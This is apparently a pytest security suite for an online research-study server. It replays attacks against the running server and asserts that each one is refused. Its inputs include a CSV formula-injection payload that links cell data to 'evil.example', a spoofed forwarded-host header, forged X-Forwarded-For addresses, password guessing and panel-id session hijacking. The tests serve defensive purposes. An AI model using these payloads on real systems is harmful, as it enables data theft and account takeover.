"""The attacks of the "safe on the open internet" review, each replayed against the real server
(gunicorn, STUDY_ENV=production, SQLite and PostgreSQL), and what the server now answers.

One server per database serves every test here; two studies share it: `test-study` (generous
rate limits, so the tests' many arrivals from 127.0.0.1 are not refused) and `tight` (two new
sessions per address and hour). The server trusts X-Forwarded-* only from 10.255.0.1, which is
not where these requests come from.
"""
from __future__ import annotations

import html
import http.client
import json
import re
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import urlencode, urlsplit

import pytest
from sqlalchemy import create_engine, text

from study.auth import create_admin, grant
from study.config import parse_config
from study.db import db
from study.lifecycle import find_study
from study.studies import create_study
from studyhelp import BASE_CONFIG, app_with_study, stimset, study_server  # noqa: F401  (fixtures)

PASSWORD = "correct horse battery"
HIDDEN = re.compile(r'<input type="hidden" name="([^"]+)" value="([^"]*)">')
STUDY_DATA = re.compile(r'<script id="study-data" type="application/json">(.*?)</script>', re.S)
# The defaults a researcher gets (anonymous link off with a panel, 0.5 s per answer at least),
# except that test-study lets the tests' many arrivals from one address in.
SECURE = {k: v for k, v in BASE_CONFIG.items() if k not in ("admission", "min_seconds_per_answer")}


@dataclass
class Reply:
    status: int
    headers: http.client.HTTPMessage
    text: str

    def json(self) -> Any:
        return json.loads(self.text)


@dataclass
class Browser:
    """A client with its own cookie jar (sent over plain HTTP, as a browser would over HTTPS)."""
    base: str
    cookies: dict[str, str] = field(default_factory=dict)
    consent_reply: Reply | None = None

    def request(self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> Reply:
        parts = urlsplit(self.base)
        conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
        sent = dict(headers or {})
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        conn.request(method, path, body, sent)
        response = conn.getresponse()
        reply = Reply(response.status, response.headers, response.read().decode(errors="replace"))
        conn.close()
        for cookie in reply.headers.get_all("Set-Cookie") or []:
            name, _, value = cookie.split(";")[0].partition("=")
            self.cookies[name] = value
        return reply

    def get(self, path: str, **headers: str) -> Reply:
        return self.request("GET", path, headers=headers)

    def form(self, path: str, fields: dict[str, str], **headers: str) -> Reply:
        return self.request("POST", path, urlencode(fields).encode(),
                            {"Content-Type": "application/x-www-form-urlencoded", **headers})

    def post_json(self, path: str, payload: Any) -> Reply:
        body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        return self.request("POST", path, body, {"Content-Type": "application/json"})


def fields_of(page: Reply) -> dict[str, str]:
    return {k: html.unescape(v) for k, v in HIDDEN.findall(page.text)}


def consent(browser: Browser, query: str, choice: str = "agree", study: str = "test-study") -> Reply:
    """The entry page and the consent form's answer (a 303 to the new session when agreed)."""
    entry = browser.get(f"/study/{study}?{query}")
    assert entry.status == 200, entry.text[:300]
    return browser.form(f"/study/{study}/consent", {**fields_of(entry), "choice": choice})


def start(browser: Browser, query: str, study: str = "test-study") -> tuple[str, dict]:
    """Consent and instructions; returns the session path (/s/<token>) and the trial data."""
    reply = consent(browser, query, study=study)
    assert reply.status == 303, reply.text[:300]
    browser.consent_reply = reply
    token_path = "/".join(reply.headers["Location"].split("/")[:3])
    instructions = browser.get(f"{token_path}/instructions")
    assert browser.form(f"{token_path}/instructions", fields_of(instructions)).status == 303
    task = browser.get(f"{token_path}/task")
    return token_path, json.loads(STUDY_DATA.search(task.text).group(1))


def answer(trial: dict, **changes: Any) -> dict:
    now = time.time() * 1000
    payload = {"client_id": uuid.uuid4().hex, "trial_index": trial["i"], "stimulus": trial["stimulus"],
               "response": 3, "rt_ms": 700, "presented_at": now - 700, "responded_at": now}
    return {**payload, **changes}


@dataclass
class Target:
    base: str
    engine: Any

    def scalar(self, sql: str, **params: Any) -> Any:
        with self.engine.connect() as conn:
            return conn.execute(text(sql), params).scalar()


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def target(request, tmp_path_factory, stimset) -> Iterator[Target]:
    tmp = tmp_path_factory.mktemp("security")
    if request.param == "sqlite":
        url = f"sqlite:///{tmp / 'study.sqlite'}"
    else:
        import psycopg

        server = request.getfixturevalue("postgres_server")
        name = f"sec_{uuid.uuid4().hex[:10]}"
        with psycopg.connect(server.replace("postgresql+psycopg", "postgresql") + "/postgres", autocommit=True) as conn:
            conn.execute(f"CREATE DATABASE {name}")
        url = f"{server}/{name}"
    generous = {"new_sessions_per_address_per_hour": 1000, "new_sessions_per_minute": 1000}
    app = app_with_study(url, parse_config({**SECURE, "admission": generous}), stimset)
    with app.app_context():
        tight = create_study(parse_config({**SECURE, "id": "tight", "admission": {"new_sessions_per_address_per_hour": 2}}),
                             stimset)[0]
        # Repeats allowed (two sessions per person); the tests finish sessions at machine speed.
        create_study(parse_config({**SECURE, "id": "again", "min_seconds_per_answer": 0,
                                   "admission": {**generous, "sessions_per_person": 2}}), stimset)
        # Two new sessions a minute for the whole study, however many addresses they come from.
        create_study(parse_config({**SECURE, "id": "crowd", "admission": {"new_sessions_per_minute": 2}}), stimset)
        for name, role in (("ada", "owner"), ("ana", "analyst"), ("vic", "viewer")):
            create_admin(name, PASSWORD)
            db.session.flush()
            grant(tight, name, role, "cli")
        grant(find_study("test-study"), "ada", "owner", "cli")
        db.session.commit()
        db.engine.dispose()
    env = {"STUDY_ENV": "production", "STUDY_TRUSTED_PROXIES": "1", "STUDY_PROXY_ADDRESSES": "10.255.0.1"}
    with study_server(url, None, None, env=env) as (base, _proc):
        engine = create_engine(url)
        yield Target(base, engine)
        engine.dispose()


# --- 1. a panel id alone no longer opens someone's session ----------------------------------------

def test_a_known_panel_id_does_not_open_answer_or_decline_someone_elses_session(target):
    attacker = Browser(target.base)
    early = attacker.get("/study/test-study?PROLIFIC_PID=alice001")  # a consent form for alice, before she comes
    victim = Browser(target.base)
    token_path, data = start(victim, "PROLIFIC_PID=alice001&STUDY_ID=st1&SESSION_ID=sub-alice")
    set_cookie = next(c for c in victim.consent_reply.headers.get_all("Set-Cookie") if c.startswith("study_key_"))
    assert "HttpOnly" in set_cookie and "SameSite=None" in set_cookie and "Secure" in set_cookie  # MTurk's iframe

    # Was: 303 to alice's session URL. Now: 409, no session URL anywhere in the reply.
    for query in ("PROLIFIC_PID=alice001", "PROLIFIC_PID=alice001&STUDY_ID=st1&SESSION_ID=guessed"):
        refused = attacker.get(f"/study/test-study?{query}")
        assert refused.status == 409 and "already open in another browser" in refused.text
        assert "Location" not in refused.headers and token_path.split("/")[2] not in refused.text
    declined = attacker.form("/study/test-study/consent", {**fields_of(early), "choice": "decline"})
    assert declined.status == 409
    assert target.scalar("SELECT state FROM participant_session WHERE public_id = :p",
                         p=token_path.split("/")[2].split(".")[0]) == "instructed"
    # Logged for the researcher, once per address and reason every 10 s (a hammering client writes nothing more).
    assert target.scalar("SELECT count(*) FROM audit_event WHERE action = 'entry_refused'") == 1

    # Alice herself: her browser (cookie) and her own Prolific link on another device both resume.
    assert victim.get("/study/test-study?PROLIFIC_PID=alice001").headers["Location"].startswith(token_path)
    other_device = Browser(target.base).get("/study/test-study?PROLIFIC_PID=alice001&STUDY_ID=st1&SESSION_ID=sub-alice")
    assert other_device.status == 303 and other_device.headers["Location"].startswith(token_path)
    assert victim.post_json(f"{token_path}/answers", answer(data["trials"][0])).status == 201


def test_mturk_worker_id_with_another_assignment_is_refused_and_a_guessers_decline_does_no_harm(target):
    worker = "workerId=A1WORKER&assignmentId=ASSIGN-REAL&hitId=h1&turkSubmitTo=https://workersandbox.mturk.com"
    token_path, _ = start(Browser(target.base), worker)
    iframe_again = Browser(target.base).get(f"/study/test-study?{worker}")  # the HIT reopened, cookies blocked
    assert iframe_again.status == 303 and iframe_again.headers["Location"].startswith(token_path)
    foreign = Browser(target.base).get("/study/test-study?workerId=A1WORKER&assignmentId=ASSIGN-OTHER&hitId=h1")
    assert foreign.status == 409

    # A guesser declines first in bob's name; bob's own arrival is not held to it.
    assert consent(Browser(target.base), "PROLIFIC_PID=bob002", choice="decline").status == 303
    assert target.scalar("SELECT panel_ids FROM participant_session WHERE state = 'declined'") in ("{}", {})
    bob = Browser(target.base)
    path, data = start(bob, "PROLIFIC_PID=bob002&STUDY_ID=st1&SESSION_ID=sub-bob")
    assert bob.post_json(f"{path}/answers", answer(data["trials"][0])).status == 201
    assert target.scalar("SELECT count(*) FROM audit_event WHERE action = 'session_replaced'") >= 1


# --- 2. admission control ---------------------------------------------------------------------

def test_the_anonymous_link_is_off_and_new_sessions_are_rate_limited_per_address(target):
    anonymous = Browser(target.base).get("/study/tight")
    assert anonymous.status == 403 and "personal link" in anonymous.text
    spoofer, statuses = Browser(target.base), []
    for k in range(5):  # invented ids, each with a fresh X-Forwarded-For
        entry = spoofer.get(f"/study/tight?PROLIFIC_PID=inv{k}")
        statuses.append(spoofer.form("/study/tight/consent", {**fields_of(entry), "choice": "agree"},
                                     **{"X-Forwarded-For": f"198.51.100.{k}"}).status)
    assert statuses == [303, 303, 429, 429, 429]
    lease = target.scalar("SELECT max(s.lease_expires_at) FROM participant_session s JOIN study ON study.id = s.study_id "
                          "WHERE study.slug = 'tight'")
    created = target.scalar("SELECT max(s.created_at) FROM participant_session s JOIN study ON study.id = s.study_id "
                            "WHERE study.slug = 'tight'")
    lease, created = (_as_datetime(lease), _as_datetime(created))
    assert (lease - created).total_seconds() <= 5 * 60 + 5  # not started: the short lease, not 30 minutes

    owner = logged_in(target, "ada")
    arrivals = owner.get("/admin/study/tight/arrivals?format=json").json()["refused"]
    assert sorted(a["reason"] for a in arrivals) == ["anonymous_off", "per_address"]  # repeats within 10 s: one row


def test_the_whole_study_admits_a_limited_number_of_new_sessions_a_minute(target):
    statuses = [consent(Browser(target.base), f"PROLIFIC_PID=crowd{k}", study="crowd").status for k in range(3)]
    assert statuses == [303, 303, 429]
    refused = consent(Browser(target.base), "PROLIFIC_PID=crowd9", study="crowd")
    assert refused.status == 429 and "Many people are starting this study right now" in refused.text


def _as_datetime(value):
    import datetime as dt

    return value if isinstance(value, dt.datetime) else dt.datetime.fromisoformat(str(value))


# --- 3. one person, one session ---------------------------------------------------------------

def test_variants_of_a_panel_id_and_other_panels_do_not_make_a_second_session(target):
    start(Browser(target.base), "PROLIFIC_PID=carol003&STUDY_ID=st1&SESSION_ID=sub-carol")
    before = target.scalar("SELECT count(*) FROM participant_session")
    newline = Browser(target.base).get("/study/test-study?PROLIFIC_PID=carol003%0A")
    assert newline.status == 400 and "not a valid id" in newline.text
    for query in ("PROLIFIC_PID=CAROL003", "PROLIFIC_PID=carol003.", "PROLIFIC_PID=%EF%BD%83arol003",  # fullwidth c
                  "participant=carol003", "workerId=CAROL003&assignmentId=a9&hitId=h"):
        assert Browser(target.base).get(f"/study/test-study?{query}").status == 409, query
    assert target.scalar("SELECT count(*) FROM participant_session") == before


def finish(browser: Browser, data: dict) -> Reply:
    """Every answer of the plan, then the completion request."""
    for trial in data["trials"]:
        assert browser.post_json(data["answers_url"], answer(trial)).status == 201
    return browser.post_json(data["complete_url"], {})


def test_one_session_per_person_unless_the_study_allows_repeats(target):
    # No repeats (the default): an ended session (here screened out, machine speed) is where the
    # participant's link leads back, for them only; a new submission of the same person starts nothing.
    frank = Browser(target.base)
    path, data = start(frank, "PROLIFIC_PID=frank006&STUDY_ID=st1&SESSION_ID=sub-frank")
    assert finish(frank, data).json()["next"] == f"{path}/end"
    again = frank.get("/study/test-study?PROLIFIC_PID=frank006&STUDY_ID=st1&SESSION_ID=sub-frank-2")
    assert again.status == 303 and again.headers["Location"] == f"{path}/end"
    assert Browser(target.base).get("/study/test-study?participant=frank006").status == 409

    # sessions_per_person = 2: a second session once the first is completed, from any panel,
    # while the finished submission's own link still finds its debrief.
    grace = Browser(target.base)
    first, data = start(grace, "PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g1", study="again")
    back = Browser(target.base).get("/study/again?participant=grace007")
    assert back.status == 409  # in progress: no second session beside it
    assert finish(grace, data).status == 200
    same_submission = Browser(target.base).get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g1")
    assert same_submission.status == 303 and same_submission.headers["Location"].startswith(f"{first}/debrief")
    second, data = start(grace, "participant=GRACE007", study="again")
    assert second != first
    assert finish(grace, data).status == 200
    rows = target.scalar("SELECT count(DISTINCT s.participant_hash) || ':' || count(*) || ':' || max(s.attempt) "
                         "FROM participant_session s JOIN study ON study.id = s.study_id WHERE study.slug = 'again'")
    assert rows == "1:2:2"  # one person (one participant_id in the exports), two sessions
    third = grace.get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g3")
    assert third.status == 303 and third.headers["Location"].startswith(f"{second}/debrief")  # two is the limit
    assert Browser(target.base).get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g3").status == 409


# --- 4. server time ---------------------------------------------------------------------------

def test_a_script_that_finishes_in_a_second_is_screened_out_and_clocks_and_order_are_checked(target):
    script = Browser(target.base)
    path, data = start(script, "PROLIFIC_PID=dave004&STUDY_ID=st1&SESSION_ID=sub-dave")
    trials = data["trials"]
    assert script.post_json(data["answers_url"], answer(trials[1])).status == 409  # out of plan order
    future = script.post_json(data["answers_url"], answer(trials[0], presented_at=1e14 - 1))  # the year 5138
    past = script.post_json(data["answers_url"], answer(trials[0], responded_at=1000.0))  # 1970
    assert future.status == past.status == 422 and "server's clock" in future.json()["error"]
    first = answer(trials[0])
    assert script.post_json(data["answers_url"], first).status == 201
    for trial in trials[1:]:
        assert script.post_json(data["answers_url"], answer(trial)).status == 201
    assert script.post_json(data["answers_url"], first).json()["duplicate"] is True  # a retry stays idempotent
    # The dashboard flags it while it runs, by the server's clock: each answer claimed rt_ms 700
    # (was: only client rt_ms under 250 ms counted, so this script passed as careful).
    rows = logged_in(target, "ada").get("/admin/study/test-study/progress.json").json()["sessions_list"]
    mine = next(r for r in rows if r["session_id"] == path.split("/")[2].split(".")[0])
    assert mine["too_fast"] and mine["flagged"] and mine["seconds_per_answer"] < 0.5
    done = script.post_json(data["complete_url"], {})
    assert done.status == 200 and done.json()["next"].endswith("/end")
    assert "CODE-OUT" in script.get(done.json()["next"]).text
    assert target.scalar("SELECT screen_reason FROM participant_session WHERE state = 'screened_out'") == "too_fast"
    assert target.scalar("SELECT count(*) FROM page_view WHERE page = 'task'") >= 1


# --- 5. researcher sessions ---------------------------------------------------------------------

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def logged_in(target: Target, name: str) -> Browser:
    browser = Browser(target.base)
    token = CSRF.search(browser.get("/admin/login").text).group(1)
    reply = browser.form("/admin/login", {"csrf_token": token, "username": name, "password": PASSWORD})
    assert reply.status == 303, reply.text[:300]
    return browser


def test_logout_ends_the_session_and_csrf_tokens_belong_to_one_login(target):
    first, second = logged_in(target, "ada"), logged_in(target, "ada")
    token = CSRF.search(first.get("/admin/study/tight").text).group(1)
    assert token != CSRF.search(second.get("/admin/study/tight").text).group(1)
    saved = dict(first.cookies)
    assert first.form("/admin/logout", {"csrf_token": token}).status == 303
    replay = Browser(target.base, saved)
    assert replay.get("/admin/study/tight").status == 302  # to the login page
    closed = replay.form("/admin/study/tight/state", {"csrf_token": token, "action": "close"})
    assert closed.status == 302 and second.get("/admin/study/tight").status == 302  # logout ended both
    assert target.scalar("SELECT is_open FROM study WHERE slug = 'tight'") in (True, 1)


def test_wrong_passwords_slow_the_guesser_but_never_lock_out_the_user(target):
    guesser = Browser(target.base)
    statuses = []
    for _ in range(5):
        token = CSRF.search(guesser.get("/admin/login").text).group(1)
        statuses.append(guesser.form("/admin/login", {"csrf_token": token, "username": "vic", "password": "wrong" * 3}).status)
    assert statuses == [401, 401, 401, 429, 429]  # the fourth waits a second, the next ones longer
    nul = guesser.form("/admin/login", {"csrf_token": CSRF.search(guesser.get("/admin/login").text).group(1),
                                        "username": "ad\x00a", "password": "x"})
    assert nul.status in (401, 429)
    # Was: 5 failures locked the name for 15 minutes. Now the back-off belongs to the (name,
    # address) pair and is a second here: the real user gets in.
    time.sleep(1.2)
    assert logged_in(target, "vic").get("/admin/study/tight").status == 200


def test_roles_limit_what_each_researcher_may_do_and_forwarded_host_is_ignored(target):
    viewer, analyst, owner = logged_in(target, "vic"), logged_in(target, "ana"), logged_in(target, "ada")
    page = viewer.get("/admin/study/tight", **{"X-Forwarded-Host": "evil.example"})
    assert page.status == 200 and "evil.example" not in page.text
    assert "mark=" not in page.text and "mark=" in owner.get("/admin/study/tight").text  # the pilot link: owners only
    assert viewer.get("/admin/study/tight/export/responses.csv").status == 403
    assert analyst.get("/admin/study/tight/export/responses.csv").status == 200
    assert analyst.get("/admin/study/tight/export/payments.csv").status == 403
    assert owner.get("/admin/study/tight/export/payments.csv").status == 200
    token = CSRF.search(analyst.get("/admin/study/tight").text).group(1)
    assert analyst.form("/admin/study/tight/state", {"csrf_token": token, "action": "close"}).status == 403
    assert analyst.form("/admin/study/tight/delete-participant", {"csrf_token": token, "panel_id": "inv0"}).status == 403
    assert target.scalar("SELECT count(*) FROM audit_event WHERE action = 'delete_participant'") == 0
    assert viewer.get("/admin/study/test-study").status == 403  # no role on it at all
    assert "test-study" not in viewer.get("/admin/").text


# --- 6. exports --------------------------------------------------------------------------------

def test_a_formula_in_the_user_agent_is_inert_in_participants_csv(target):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    browser = Browser(target.base)
    entry = browser.get("/study/test-study?PROLIFIC_PID=hank008")
    assert browser.form("/study/test-study/consent", {**fields_of(entry), "choice": "agree"}, **{"User-Agent": attack}).status == 303
    exported = logged_in(target, "ada").get("/admin/study/test-study/export/participants.csv")
    assert exported.status == 200
    assert "'" + attack.replace('"', '""') in exported.text and ',"=HYPERLINK' not in exported.text


# --- 8. malformed input, HEAD, headers --------------------------------------------------------

def test_malformed_input_gets_4xx_and_head_changes_nothing(target):
    browser = Browser(target.base)
    path, data = start(browser, "PROLIFIC_PID=erin005&STUDY_ID=st1&SESSION_ID=sub-erin")
    trial = data["trials"][0]
    deep = browser.post_json(data["answers_url"], b"[" * 30000 + b"]" * 30000)
    assert deep.status == 400
    for bad in ("\ud800" * 8, "nul\x00byte-id"):
        body = json.dumps(answer(trial, client_id=bad)).encode()
        assert browser.post_json(data["answers_url"], body).status == 422
    withdraw = browser.get(f"{path}/withdraw")
    head = browser.request("HEAD", f"{path}/withdraw", urlencode(fields_of(withdraw)).encode(),
                           {"Content-Type": "application/x-www-form-urlencoded"})
    assert head.status == 200
    assert browser.post_json(data["answers_url"], answer(trial)).status == 201  # still in task

    task = browser.get(f"{path}/task")
    assert task.headers["Cache-Control"] == "no-store" and task.headers["Referrer-Policy"] == "no-referrer"
    assert task.headers["Content-Security-Policy"].startswith("default-src 'self'")
    assert "<script>" not in task.text  # no inline script for the policy to refuse
